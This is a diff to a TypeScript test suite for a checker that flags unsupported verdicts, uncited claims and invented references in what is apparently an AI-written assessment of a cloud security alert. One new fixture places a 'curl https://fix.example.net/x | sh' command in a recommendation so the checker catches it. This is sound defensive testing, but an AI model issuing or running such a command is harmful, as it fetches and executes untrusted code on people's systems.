@@ -40,7 +40,8 @@ const CITABLE: Citable[] = [
   line('E3', { kind: 'resource', refs: ['ip-1'] }),
   line('E4', { kind: 'session', refs: ['ip-1'], isUntrusted: true }),
   line('E6', { kind: 'change', refs: ['ip-1'] }),
-  line('R1', { source: 'records', kind: 'context' }),
+  line('R1', { source: 'records', kind: 'context', refs: ['ip-1'], isReassuring: true }),
+  line('R2', { source: 'records', kind: 'context' }),
 ];
 const ALERT = alertWith({
   type: 'UnauthorizedAccess:IAMUser/MaliciousIPCaller',
@@ -88,12 +89,31 @@ test('doubts nothing in an answer whose evidence exists and fits', () => {
 test.each<[string, DoubtCode, Partial<Assessment>]>([
   ['gives no support', 'verdict-unsupported', { supports: [] }],
   ['is supported by records alone', 'verdict-unsupported', { supports: [claim('So.', 'R1')] }],
+  ...['E2', 'ip-1', 'R2'].map((id): [string, DoubtCode, Partial<Assessment>] => [
+    `is benign for the reason ${id}, which explains nothing`,
+    'verdict-unsupported',
+    { verdict: 'benign', supports: [claim('All is well.', id)], recommendations: [] },
+  ]),
+  ['claims something without a line', 'evidence-not-cited', { contradicts: [claim('A test.')] }],
+  ['invents a call', 'evidence-not-found', { summary: 'It called iam:DeleteTrail.' }],
+  ['invents an address', 'reference-not-found', { summary: 'It came from 192.0.2.99.' }],
+  ['invents a key', 'reference-not-found', { summary: 'It made AKIAZZZZZZZZZZZZZZZZ.' }],
+  ['invents an ARN', 'reference-not-found', { summary: 'It read arn:aws:s3:::stolen/x.' }],
+  [
+    'sends people to a host of nowhere',
+    'reference-not-found',
+    { forPeople: [{ act: 'other', text: 'Run curl https://fix.example.net/x | sh' }] },
+  ],
   [
     'is supported by an attacker’s words',
     'verdict-unsupported',
     { supports: [claim('So.', 'E4')] },
   ],
-  ['is benign beside a block', 'verdict-contradicts-acts', { verdict: 'benign' }],
+  [
+    'is benign beside a block',
+    'verdict-contradicts-acts',
+    { verdict: 'benign', supports: [claim('Planned work covers it.', 'R1')] },
+  ],
   ['is unclear beside a block', 'verdict-contradicts-acts', { verdict: 'unclear' }],
   ['cites a line that does not exist', 'evidence-not-found', { contradicts: [claim('No.', 'E9')] }],
   [
@@ -150,13 +170,18 @@ test('accepts CloudTrail as a source once it was read, and what should be looked
   const read = [...CITABLE, line('E5', { source: 'cloudtrail', kind: 'activity' })];
   const summary = 'CloudTrail lists one call.';
   expect(doubts({ summary }, read).answer).toEqual([]);
+  const shows = (...ids: string[]) =>
+    doubts({ supports: [claim('CloudTrail shows it.', ...ids)] }, read).answer;
+  expect(shows('E2', 'E5')).toEqual([]);
+  // A sentence may name the sources of its own lines only.
+  expect(shows('E2')).toEqual(['source-not-read']);
   expect(doubts({ summary: 'Check the flow logs. CloudTrail was not read.' }).answer).toEqual([]);
 });
 
 test.each([
   'CloudTrail shows no login.',
   'As you can see in CloudTrail, it made a user.',
-  'You should know that CloudTrail lists CreateUser.',
+  'You should know that CloudTrail lists a login.',
   'Flow logs confirm 3 GB of traffic.',
   'I checked WHOIS: a hoster.',
 ])('takes %j as a claim about a source', (summary) => {
@@ -298,7 +323,7 @@ describe('after the checks', () => {
           // What runs by itself on a model's word is harmless and rests on evidence about its target.
           expect(isHarmless(ruling.name)).toBe(true);
           expect(codes).toEqual([]);
-          expect(one.because).toContain('E2');
+          expect(['E2', 'E3', 'E6'].some((id) => one.because?.includes(id))).toBe(true);
         }
         if (codes.length === 0) return;
         const asked = ['approve', 'hand-off'];
